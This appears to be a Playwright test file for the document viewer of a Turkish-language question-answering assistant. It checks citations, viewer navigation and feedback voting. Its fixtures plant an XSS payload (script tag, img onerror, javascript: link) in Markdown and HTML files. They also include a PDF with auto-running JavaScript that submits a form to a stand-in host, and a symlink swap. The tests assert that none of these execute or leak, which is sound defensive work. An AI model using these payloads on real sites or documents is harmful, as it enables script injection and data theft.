"""Documents beside the answer and judged sources: a real browser, the real server, real documents."""

import io
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from assistant.owners import NOBODY
from assistant.remarks import Remark
from assistant.settings import load_settings
from tests.pdf_files import drawn
from tests.ui.chromium import CHROMIUM, untroubled_page
from tests.ui.service_fakes import running
from ui import source_texts
from ui.service import Service, open_service

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine"),
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting' is deprecated:DeprecationWarning"),
]
COOLING = (
    "Soğutma suyu\nKazan dairesindeki soğutma suyunun sıcaklığı altmış beş dereceyi aşmamalıdır.\n"
    "Sıcaklık yükselirse İKİNCİ pompa kendiliğinden devreye girer."
)
PAGES = [f"Bölüm {n}\nBu sayfada kazan dairesinin {n}. bölümü için boş form vardır." for n in (1, 2)]
EVIL = "<script>window.pwned=1</script><img src=x onerror=window.pwned=1>"
NOTES = f"""# Vardiya notları

Vardiya sorumlusu her sabah basınç değerini okur ve deftere yazar.

## Filtre değişimi

Yağ filtresi iki yüz elli çalışma saatinde bir değiştirilir: `{EVIL}` {EVIL}

## Güvenlik

[tıkla](javascript:window.pwned=1) Kapak açılmadan önce ana şalter kapatılır.
"""
HTML = f"<html><body><h1>Yedek parça</h1><p>Conta takımı üretici deposundan istenir.</p>{EVIL}</body></html>"


@dataclass
class Site:
    url: str
    service: Service
    folder: Path


def pdf() -> bytes:
    """Three pages; it would run script when opened, and when its last page is."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(drawn([*PAGES, COOLING]))))
    script = "window.pwned=1; app.alert('pwned'); this.submitForm('https://example.invalid/')"
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )
    writer.root_object[NameObject("/OpenAction")] = action
    writer.pages[2][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    from fastapi import FastAPI

    from ui.web.mount import mount_page

    home = tmp_path_factory.mktemp("ev")
    folder = home / "belgeler"
    folder.mkdir()
    (folder / "kazan dairesi.pdf").write_bytes(pdf())
    (folder / "vardiya.md").write_text(NOTES, "utf-8")
    (folder / "parça.html").write_text(HTML, "utf-8")
    service = open_service(load_settings(home=home, embedder="kilavuz-compact"))
    service.ingest()
    app = mount_page(FastAPI(), service, "tr")
    with running(app) as url:
        yield Site(url, service, folder)
    service.close()


@pytest.fixture
def page(browser: "Browser", site: Site) -> Iterator["Page"]:
    yield from untroubled_page(browser, site.url)


def wait(done: Callable[[], bool], seconds: float = 60) -> None:
    end = time.monotonic() + seconds
    while not done() and time.monotonic() < end:
        time.sleep(0.05)
    assert done()


def ask(page: "Page", question: str) -> int:
    page.fill("#box textarea", question)
    page.press("#box textarea", "Enter")
    page.wait_for_selector(f"#live .turn:not(.growing):has-text('{question}')")
    page.wait_for_selector("#sources .evidence", state="attached")
    return int(page.get_attribute("#live .turn", "data-turn") or 0)


def test_a_citation_opens_the_pdf_at_its_page_with_the_passage_marked(page: "Page", site: Site) -> None:
    ask(page, "Soğutma suyunun sıcaklığı en çok kaç derece olabilir?")
    page.click("#live .cite >> nth=0")
    page.wait_for_selector(".viewer[data-kind=pdf] .sheet-page[data-number='3'] mark.quote")
    assert "sıcaklığı altmış beş" in page.inner_text(".sheet-page[data-number='3'] .textLayer")
    marked = " ".join(page.locator("mark.quote").all_inner_texts())
    assert "Kazan dairesindeki soğutma suyunun" in marked and "Bölüm" not in marked
    assert page.input_value(".page-number") == "3"
    drawn_to = "c => new Set(c.getContext('2d').getImageData(0, 0, c.width, c.height / 4).data).size > 2"
    assert page.eval_on_selector(".sheet-page[data-number='3'] canvas", drawn_to)
    box = page.locator(".pages").bounding_box()
    mark = page.locator("mark.quote").first.bounding_box()
    assert box and mark and box["y"] <= mark["y"] <= box["y"] + box["height"]
    assert page.locator("#sources .source.active").count() == 1  # the card behind it

    page.click("[data-viewer=previous]")
    page.wait_for_function("document.querySelector('.page-number').value === '2'")
    page.fill(".page-number", "1")
    page.press(".page-number", "Enter")
    page.wait_for_selector(".sheet-page[data-number='1'] canvas")
    page.click("[data-viewer=larger]")
    page.keyboard.press("Escape")
    page.wait_for_selector("#viewer", state="hidden")
    page.click("#sources .source.active .show")  # the same again
    page.wait_for_selector(".viewer .pages")
    page.click(".viewer [data-kind=text]")
    page.wait_for_selector(".viewer .part.here mark.quote")
    page.click(".viewer [data-kind=pdf][data-action=show]")
    page.wait_for_selector(".viewer .sheet-page canvas")


def test_markdown_opens_at_the_passage_and_stays_text(page: "Page", site: Site) -> None:
    ask(page, "Yağ filtresi kaç saatte bir değiştirilir?")
    page.click("#live .cite >> nth=0")
    page.wait_for_selector(".viewer[data-kind=text] .part.here mark.quote")
    assert "iki yüz elli" in " ".join(page.locator(".part.here mark.quote").all_inner_texts())
    assert page.locator(".viewer h4:has-text('Filtre değişimi')").count() == 1
    assert "<script>window.pwned=1</script>" in page.inner_text(".viewer .sheet")
    assert page.locator(".viewer .sheet :is(script, img, a)").count() == 0
    page.click("[data-viewer=close]")
    page.wait_for_selector("#viewer", state="hidden")


def test_html_is_never_served_as_html(site: Site) -> None:
    ids = site.service.reading.known(["parça.html", "vardiya.md", "kazan dairesi.pdf"])
    assert len(ids) == 3
    for source, id in ids.items():
        answer = httpx.get(f"{site.url}/belge/{id}")
        assert answer.status_code == 200 and "html" not in answer.headers["content-type"]
        assert answer.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in answer.headers["content-security-policy"], source
    assert httpx.get(f"{site.url}/belge/987654").status_code == 404


def test_a_pdf_that_is_not_in_its_place_is_shown_as_text(page: "Page", site: Site, tmp_path: Path) -> None:
    path = site.folder / "kazan dairesi.pdf"
    ask(page, "Soğutma suyu sıcaklığı kaç dereceyi aşmamalı?")
    (tmp_path / "secret.pdf").write_bytes(drawn(["gizli"]))
    content = path.read_bytes()
    path.unlink()
    path.symlink_to(tmp_path / "secret.pdf")
    try:
        page.click("#live .cite >> nth=0")
        page.wait_for_selector(".viewer[data-kind=text] .notice:has-text('yerinde değil')")
        page.wait_for_selector(".viewer .part.here")
        assert "gizli" not in page.inner_text(".viewer")
    finally:
        path.unlink()
        path.write_bytes(content)


def test_answer_and_sources_are_judged_with_reasons_that_can_be_changed(page: "Page", site: Site) -> None:
    turn = ask(page, "Basınç değerini kim okur?")
    page.click("#live [data-target=answer][data-vote='-1']")
    page.wait_for_selector("#remark .remark")
    page.click("#remark .reason[data-reason=incomplete]")
    page.fill("#remark textarea", "İki adım eksik <b>x</b>")
    page.click("#remark .save")
    page.wait_for_selector(".remark-kept")
    mine = site.service.own(NOBODY)
    remarks, votes = mine.remarks, mine.turns.votes
    assert remarks.remarks(turn)["answer"] == Remark("incomplete", "İki adım eksik <b>x</b>")
    page.click("#sources [data-target=evidence][data-vote='1']")
    page.wait_for_selector("#remark .remark[data-target=evidence]")
    assert page.locator("#remark .reason").count() == 0  # reasons are for what was wrong
    page.keyboard.press("Escape")
    page.wait_for_selector("#remark .remark", state="hidden")
    wait(lambda: votes(turn) == {"answer": -1, "evidence": 1})

    page.reload()
    page.wait_for_selector("#live [data-target=answer][data-vote='-1'][aria-pressed=true]")
    page.wait_for_selector("#sources [data-target=evidence][data-vote='1'][aria-pressed=true]")
    page.click("#live [data-target=answer][data-vote='1']")  # changed
    page.wait_for_selector("#remark .remark")
    assert page.input_value("#remark textarea") == "İki adım eksik <b>x</b>"
    wait(lambda: votes(turn)["answer"] == 1)
    page.click("#sources [data-target='hit:0'][data-vote='-1']")
    page.wait_for_selector("#remark .remark[data-target='hit:0']")
    page.fill("#remark textarea", "kaydedilmeyen")  # and then something else is judged
    page.click("#live [data-target=answer][data-vote='-1']")
    page.wait_for_selector("#remark .remark[data-target=answer]")
    kept = "İki adım eksik <b>x</b>"
    page.wait_for_function("kept => document.querySelector('#remark textarea').value === kept", arg=kept)


def test_the_right_source_is_pointed_out_among_hits_and_by_a_search(page: "Page", site: Site) -> None:
    turn = ask(page, "Basınç değeri nereye yazılır?")
    page.click("#sources .source.cited >> nth=0 >> .right")
    wait(lambda: len(site.service.own(NOBODY).remarks.pointed(turn)) == 1)
    page.click("#sources .where")
    page.wait_for_selector("#where .seek")
    assert page.input_value("#where input") == "Basınç değeri nereye yazılır?"
    page.fill("#where input", "CONTA TAKIMI deposundan")
    page.press("#where input", "Enter")
    page.wait_for_selector("#where li:has-text('Conta')")
    assert "Conta" in page.locator("#where mark").all_inner_texts()
    page.click("#where li:has-text('Conta') >> .show")
    page.wait_for_selector(".viewer[data-kind=text] .part.here:has-text('Conta')")
    page.keyboard.press("Escape")
    page.click("#where li:has-text('Conta') >> .right")
    wait(lambda: len(site.service.own(NOBODY).remarks.pointed(turn)) == 2)
    assert {
        one.chunk.source for one in site.service.own(NOBODY).remarks.all_pointed() if one.turn == turn
    } >= {"parça.html"}
    page.reload()
    page.wait_for_selector("#sources .right[aria-pressed=true]")
    page.click("#sources .right[aria-pressed=true]")
    wait(lambda: len(site.service.own(NOBODY).remarks.pointed(turn)) == 1)


@pytest.mark.parametrize("width", [1440, 1024, 390])
def test_no_width_scrolls_sideways_beside_a_document(page: "Page", site: Site, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 800})
    ask(page, "Soğutma suyunun sıcaklığı kaç dereceyi aşmamalıdır?")
    page.click("#live .cite >> nth=0")
    page.wait_for_selector(".viewer .sheet-page canvas")
    assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") == 0
    page.wait_for_function("document.querySelector('#right').getBoundingClientRect().right <= innerWidth + 1")
    page.click("[data-viewer=close]")
    page.wait_for_selector("#viewer", state="hidden")
    page.wait_for_selector(f"#sources .evidence:has-text('{source_texts.EVIDENCE.tr}')")
